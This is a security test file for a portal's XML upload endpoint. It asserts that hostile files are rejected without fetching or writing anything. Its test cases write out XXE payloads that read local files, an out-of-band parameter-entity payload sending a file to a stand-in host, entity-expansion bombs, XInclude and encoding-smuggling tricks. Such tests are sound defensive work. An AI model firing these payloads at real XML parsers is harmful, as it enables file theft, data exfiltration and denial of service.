import { eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { audit } from '#src/backend/platform/db/tables/audit.ts'
import { contact } from '#src/backend/platform/db/tables/contact.ts'
import { textRevision } from '#src/backend/platform/db/tables/text.ts'
import { readVartextFile } from '#src/backend/text/vartext-file.ts'
import { removeDirectories } from '#tests/backend/database.ts'
import { openOutside } from '#tests/backend/platform/db/outside.ts'
import { openTestPortal, type TestPortal } from '#tests/backend/portal.ts'

let portal: TestPortal
let token: string
const outside = await openOutside()
const { http, file } = outside
beforeAll(async () => {
  portal = await openTestPortal()
  await portal.database.write((tx) =>
    tx
      .update(contact)
      .set({ groups: ['CAN_UPLOAD'] })
      .where(eq(contact.id, 6)),
  )
  token = await portal.login('translator@test.example')
})
afterAll(async () => {
  await Promise.all([portal.close(), outside.close()])
  removeDirectories()
})

const upload = async (content: string | Uint8Array) => {
  const body = new FormData()
  body.append('file', new File([Buffer.from(content)], 'x.xml'))
  const headers = { authorization: `Token ${token}`, 'accept-language': 'en' }
  const response = await portal.send('/vue/i18n/vartext-xml/', { method: 'POST', headers, body })
  return { code: response.status, text: await response.text() }
}

const good = '<text key="a"><value lang="master">A</value></text>'
const list = (inner: string) => `<vartexts>${inner}</vartexts>`
const value = (inner: string) => list(`<text key="a"><value lang="master">${inner}</value></text>`)
const dtd = (subset: string, inner = '&x;') => `<!DOCTYPE vartexts [${subset}]>${value(inner)}`
const utf16 = (text: string) => Buffer.from(text, 'utf16le')
const wide = (text: string) => Buffer.concat([...text].map((one) => Buffer.from([0, 0, 0, one.charCodeAt(0)])))
const bytes = (before: string, middle: number[], after: string) =>
  Buffer.concat([Buffer.from(before), Buffer.from(middle), Buffer.from(after)])
const laughs = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')

const doctype = /^Line \d+: a document type declaration/
const broken = /^Line \d+, column \d+: the file is not well-formed XML/
const encoding = /^Line 1: the file must be UTF-8/
const notUtf16 = /^Line \d+: the file is not valid UTF-16/
const notUtf8 = /^Line \d+: the file is not valid UTF-8/
const instruction = /^Line \d+: the processing instruction/
const unexpected = /^Line \d+: unexpected element “[^”]*”/
const attribute = /^Line \d+: the element “\w+” has no attribute/

const cases: [string, string | Uint8Array, RegExp][] = [
  // Entities and document types
  ['an entity that is a file', dtd(`<!ENTITY x SYSTEM "${file}">`), doctype],
  ['an entity that is an address', dtd(`<!ENTITY x SYSTEM "${http}/x">`), doctype],
  ['an entity with a public name', dtd(`<!ENTITY x PUBLIC "-//X//EN" "${http}/x">`), doctype],
  [
    'an entity by a PHP filter',
    dtd(`<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=${file}">`),
    doctype,
  ],
  ['a parameter entity', dtd(`<!ENTITY % p SYSTEM "${http}/p.dtd"> %p;`), doctype],
  [
    'a parameter entity that sends a file',
    dtd(`<!ENTITY % f SYSTEM "${file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '${http}/?%f;'>">%e;%s;`),
    doctype,
  ],
  ['an unparsed entity', dtd(`<!NOTATION n SYSTEM "${http}"><!ENTITY x SYSTEM "${http}" NDATA n>`), doctype],
  ['an external document type', `<!DOCTYPE vartexts SYSTEM "${http}/x.dtd">${list(good)}`, doctype],
  ['an external document type that is a file', `<!DOCTYPE vartexts SYSTEM "${file}">${list(good)}`, doctype],
  ['a public document type', `<!DOCTYPE vartexts PUBLIC "-//X//EN" "${http}/x.dtd">${list(good)}`, doctype],
  ['a document type of elements', dtd('<!ELEMENT vartexts ANY>', 'A'), doctype],
  ['a document type with a default value', dtd('<!ATTLIST value lang CDATA "de">', 'A'), doctype],
  ['an empty document type', `<!DOCTYPE vartexts>${list(good)}`, doctype],
  [
    'a document type behind the declaration',
    `<?xml version="1.0"?>\n\n<!DOCTYPE vartexts>${list(good)}`,
    /^Line 3: a document type/,
  ],
  ['a document type behind a comment', `<!-- a\n<b> -->\n<!DOCTYPE vartexts>${list(good)}`, /^Line 3: a document type/],
  [
    'a document type behind spaces',
    `${' \n'.repeat(40_000)}<!DOCTYPE vartexts>${list(good)}`,
    /^Line 40001: a document type/,
  ],
  ['two document types', `<!DOCTYPE vartexts><!DOCTYPE vartexts SYSTEM "${http}">${list(good)}`, doctype],
  ['a document type in small letters', `<!doctype vartexts>${list(good)}`, doctype],
  ['a document type in odd letters', `<!DoCtYpE vartexts [<!ENTITY x SYSTEM "${file}">]>${value('&x;')}`, doctype],
  ['a document type that does not end', `<!DOCTYPE vartexts [ <!ENTITY x SYSTEM "${file}">`, doctype],
  ['a document type of 5 MB', dtd(`<!ENTITY x "${'x'.repeat(5_000_000)}">`), doctype],
  ['a document type with a comment in it', dtd(`<!-- ]> --><!ENTITY x SYSTEM "${file}">`), doctype],
  ['a document type in the root', list(`<!DOCTYPE vartexts SYSTEM "${http}">${good}`), broken],
  ['a document type behind the root', `${list(good)}<!DOCTYPE vartexts SYSTEM "${http}">`, broken],
  ['a document type in a value', value(`<!DOCTYPE x [<!ENTITY x SYSTEM "${file}">]>&x;`), broken],
  ['an entity declaration without a document type', `<!ENTITY x SYSTEM "${file}">${value('&x;')}`, broken],
  ['a billion laughs', `<!DOCTYPE v [<!ENTITY l0 "lol">${laughs}]>${value('&l10;')}`, doctype],
  ['a quadratic blowup', `<!DOCTYPE v [<!ENTITY x "${'x'.repeat(50_000)}">]>${value('&x;'.repeat(50_000))}`, doctype],
  ['an entity that contains itself', dtd('<!ENTITY x "&x;">'), doctype],
  ['an entity nobody declared', value('&nbsp;'), broken],
  ['an entity named like a method', value('&toString;'), broken],
  ['an entity named like a constructor', value('&constructor;'), broken],
  ['an entity named like a prototype', value('&__proto__;'), broken],
  ['an entity in an attribute', '<vartexts><text key="&x;"/></vartexts>', broken],
  ['an entity without an end', value('a & b'), broken],
  ['an entity without a name', value('&;'), broken],
  ['a character reference to nothing', value('&#;'), broken],
  ['a reference to NUL', value('&#0;'), broken],
  ['a reference to a control character', value('&#x1F;'), broken],
  ['a reference to half a character', value('&#xD800;'), broken],
  ['a reference to no character', value('&#xFFFE;'), broken],
  ['a reference beyond Unicode', value('&#x110000;'), broken],
  ['a reference of many digits', value(`&#${'9'.repeat(400)};`), broken],
  // Instructions that other processors would follow
  [
    'an inclusion',
    list(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${file}" parse="text"/>`),
    unexpected,
  ],
  [
    'an inclusion in a value',
    value(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${http}"/>`),
    unexpected,
  ],
  ['a style sheet', `<?xml-stylesheet href="${http}/x.xsl" type="text/xsl"?>${list(good)}`, instruction],
  ['a style sheet behind', `${list(good)}<?xml-stylesheet href="${http}/x.xsl"?>`, instruction],
  ['an instruction for PHP', list(`<?php readfile("${file}") ?>`), instruction],
  ['an instruction in a value', value('<?x?>'), instruction],
  [
    'a schema',
    `<vartexts xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${http}/x.xsd">${good}</vartexts>`,
    attribute,
  ],
  [
    'a schema by its namespace',
    `<vartexts xmlns:s="urn:s" s:schemaLocation="urn:s ${http}">${good}</vartexts>`,
    attribute,
  ],
  ['a base', `<vartexts xml:base="${http}">${good}</vartexts>`, attribute],
  ['a namespace', `<v:vartexts xmlns:v="urn:v">${good}</v:vartexts>`, unexpected],
  ['a prefix nobody declared', `<v:vartexts>${good}</v:vartexts>`, broken],
  [
    'a transformation',
    `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${http}"/></xsl:stylesheet>`,
    unexpected,
  ],
  ['an envelope of SOAP', '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"/>', unexpected],
  ['a drawing', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${http}"/></svg>`, unexpected],
  // Encodings
  [
    'UTF-16 with its mark that says UTF-8',
    Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(`<?xml version="1.0" encoding="UTF-8"?>${list(good)}`)]),
    encoding,
  ],
  ['half a character of UTF-16', Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(list(good)), Buffer.of(0)]), notUtf16],
  ['UTF-32 LE with its mark', Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), utf16(list(good))]), encoding],
  ['UTF-16 without its mark', utf16(list(good)), encoding],
  ['UTF-16 of the other order without its mark', utf16(list(good)).swap16(), encoding],
  ['UTF-16 only said', `<?xml version="1.0" encoding="UTF-16"?>${list(good)}`, encoding],
  ['UTF-32 without its mark', wide(list(good)), encoding],
  ['UTF-32 with its mark', Buffer.concat([Buffer.from([0, 0, 0xfe, 0xff]), wide(list(good))]), encoding],
  ['UTF-7', `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x SYSTEM "${http}"+AD4-`, encoding],
  ['UTF-7 by its mark', '+/v8-+ADw-vartexts+AD4-', broken],
  ['EBCDIC', Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40]), notUtf8],
  ['EBCDIC only said', `<?xml version="1.0" encoding="ebcdic-cp-us"?>${list(good)}`, encoding],
  ['Shift-JIS', `<?xml version='1.0' encoding='Shift_JIS'?>${list(good)}`, encoding],
  ['a mark of UTF-8 before Windows-1252', `\uFEFF<?xml version="1.0" encoding="windows-1252"?>${list(good)}`, encoding],
  ['an overlong bracket', bytes('<vartexts>\n', [0xc0, 0xbc], 'x'), notUtf8],
  ['an overlong NUL', bytes('<vartexts>', [0xc0, 0x80], ''), notUtf8],
  ['half a character by itself', bytes('<vartexts>', [0xed, 0xa0, 0x80], ''), notUtf8],
  ['a byte without a beginning', bytes('<vartexts>', [0x80], ''), notUtf8],
  ['a character cut off by the end', bytes(list(good), [0xe2, 0x82], ''), notUtf8],
  [
    'ISO 8859-1 that says nothing',
    Buffer.from(`<vartexts>\n${good}\n<text key="Tür"/></vartexts>`, 'latin1'),
    /^Line 3: the file is not valid UTF-8/,
  ],
  // Structure
  ['nothing', '', broken],
  ['nothing but spaces', ' \n ', broken],
  ['nothing but a mark', '\uFEFF', broken],
  ['NUL', value('a\0b'), broken],
  ['a control character', value('a\x08b'), broken],
  ['no character', value('\uFFFF'), broken],
  ['the end of a CDATA by itself', value('a ]]> b'), broken],
  ['a CDATA that does not end', value('<![CDATA[ a'), broken],
  ['a comment that does not end', `<!-- ${list(good)}`, broken],
  ['two dashes in a comment', `<!-- a -- b -->${list(good)}`, broken],
  ['an attribute twice', '<vartexts><text key="a" key="b"/></vartexts>', broken],
  ['an attribute without quotes', '<vartexts><text key=a/></vartexts>', broken],
  ['an attribute without a value', '<vartexts><text key/></vartexts>', broken],
  ['a bracket in an attribute', '<vartexts><text key="<"/></vartexts>', broken],
  ['tags crossed', '<vartexts><text key="a"></vartexts></text>', broken],
  ['two roots', list(good) + list(good), broken],
  ['text before the root', `x${list(good)}`, /^Line 1: there is text outside/],
  ['text behind the root', `${list(good)}<script>`, broken],
  ['a declaration not at the start', ` <?xml version="1.0"?>${list(good)}`, broken],
  ['two declarations', `<?xml version="1.0"?><?xml version="1.0"?>${list(good)}`, broken],
  ['XML 1.1 with what 1.0 has not', `<?xml version="1.1"?>${value('&#x1;')}`, broken],
  ['a page', '<!doctype html><html><body>x</body></html>', doctype],
  ['JSON', '{"a":"b"}', broken],
  ['a spreadsheet', 'key;lang;text\na;master;A\n', broken],
  ['an archive', Buffer.from('504b0304140008080800', 'hex'), broken],
]

describe('A hostile vartext file is rejected with line and reason', () => {
  test.each(cases)('%s', async (_, content, reason) => {
    const { code, text } = await upload(content)
    expect(code).toBe(400)
    const answer: { messages: string[]; errors: { file: string[] } } = JSON.parse(text)
    expect(answer.errors.file[0]).toMatch(reason)
    expect(text).not.toContain(outside.canary)
  })

  test('when it is cut off at any byte', async () => {
    const whole = `<?xml version="1.0"?>\n<!-- x -->${list(`<text key="ä" desc="&amp;"><value lang="master"><![CDATA[A]]>🪵</value></text>`)}`
    const all = Buffer.from(whole)
    for (let end = 0; end < all.length; end += 1)
      expect((await read([all.subarray(0, end)])).error, `byte ${end}`).toMatch(/^Line/)
    expect((await read([all])).error).toBe('')
  })

  test('the same in chunks of one byte as in one piece', async () => {
    for (const [name, content, reason] of cases.filter((one) => one[1].length < 2_000)) {
      const pieces = Array.from(Buffer.from(content), (byte) => Uint8Array.of(byte))
      expect((await read(pieces)).error, name).toMatch(reason)
    }
  })
})

/** Reads a file that is generated during the read. Returns the error, and the growth of the heap in MiB. */
async function read(chunks: Iterable<Uint8Array>): Promise<{ error: string; grownMegabytes: number }> {
  const used = () => process.memoryUsage().heapUsed / 1_048_576
  const before = used()
  let maxUsed = before
  const source = chunks[Symbol.iterator]()
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      maxUsed = Math.max(maxUsed, used())
      const next = source.next()
      if (next.done) controller.close()
      else controller.enqueue(next.value)
    },
  })
  let error = ''
  try {
    for await (const _ of readVartextFile(stream, new Set(['master', 'de']))) maxUsed = Math.max(maxUsed, used())
  } catch (thrown) {
    error = String(thrown).replace('Unfit: ', '')
  }
  return { error, grownMegabytes: Math.max(maxUsed, used()) - before }
}

describe('An endless or excessive file is rejected before it fills the memory', () => {
  function* large(start: string, text: string, times: number) {
    yield Buffer.from(start)
    for (let i = 0; i < times; i += 1) yield Buffer.from(text)
  }
  const megabyte = 1_048_576

  test.each([
    ['a million elements deep', '<vartexts>', '<text key="a">'.repeat(1_000), 1_000, /unexpected element/],
    ['a million levels of another name', '', '<a>'.repeat(1_000), 1_000, /unexpected element/],
    [
      'a million attributes',
      '<vartexts ',
      Array.from({ length: 1_000 }, (_, i) => `a${i}="" `).join(''),
      1_000,
      /more than 10 attributes/,
    ],
    ['an attribute of 30 MB', '<vartexts><text key="', 'x'.repeat(megabyte), 30, /longer than/],
    ['an attribute of 30 MB that does not fit', '<vartexts a="', 'x'.repeat(megabyte), 30, /longer than/],
    ['a text of 30 MB', '<vartexts><text key="a"><value lang="master">', 'x'.repeat(megabyte), 30, /longer than/],
    [
      'a text of 30 MB in pieces',
      '<vartexts><text key="a"><value lang="master">',
      'x<!---->'.repeat(100_000),
      40,
      /longer than/,
    ],
    [
      'a CDATA of 30 MB',
      '<vartexts><text key="a"><value lang="master"><![CDATA[',
      'x'.repeat(megabyte),
      30,
      /longer than/,
    ],
    ['a comment of 30 MB', '<!--', 'x'.repeat(megabyte), 30, /longer than/],
    ['an instruction of 30 MB', '<?x ', 'x'.repeat(megabyte), 30, /longer than/],
    ['a name of 30 MB', '<', 'x'.repeat(megabyte), 30, /longer than/],
    ['an entity of 30 MB', '<vartexts>&', 'x'.repeat(megabyte), 30, /longer than/],
    ['a document type of 30 MB', '<!DOCTYPE x [', ' '.repeat(megabyte), 30, /document type/],
    ['comments of 30 MB before the root', '', '<!-- x -->'.repeat(100_000), 30, /longer than/],
    ['spaces of 30 MB before the root', '', ' '.repeat(megabyte), 30, /longer than/],
  ])('%s', async (_, start, text, times, reason) => {
    const { error, grownMegabytes } = await read(large(start, text, times))
    expect(error).toMatch(reason)
    expect(grownMegabytes).toBeLessThan(100)
  })

  test('a file above 50 MB', async () => {
    const answer = await upload(Buffer.alloc(51 * megabyte, 0x20))
    expect(answer.code).toBe(413)
  })
})

test('none of them fetched or wrote anything', async () => {
  expect(outside.visits()).toBe(0)
  const written = await portal.database.read.select().from(audit).where(eq(audit.action, 'i18n.vartextXml'))
  expect(written).toEqual([])
  expect(await portal.database.read.select().from(textRevision)).toMatchObject([{ revision: 0 }])
  await fetch(http)
  expect(outside.visits()).toBe(1)
})
